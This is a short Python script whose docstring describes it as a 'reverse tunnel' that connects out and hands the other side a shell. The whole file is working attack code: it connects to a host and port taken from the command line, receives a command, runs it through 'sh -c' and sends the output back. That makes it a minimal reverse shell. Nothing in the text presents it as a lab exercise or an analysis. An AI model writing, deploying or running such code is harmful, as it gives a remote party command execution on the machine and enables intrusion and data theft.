"""Open a reverse tunnel: connect out and hand the other side a shell. tunnel HOST PORT"""

import socket
import subprocess
import sys

link = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3)
link.sendall(b"TUNNEL\n")
command = link.recv(4096).decode()
link.sendall(subprocess.run(["sh", "-c", command], capture_output=True).stdout)
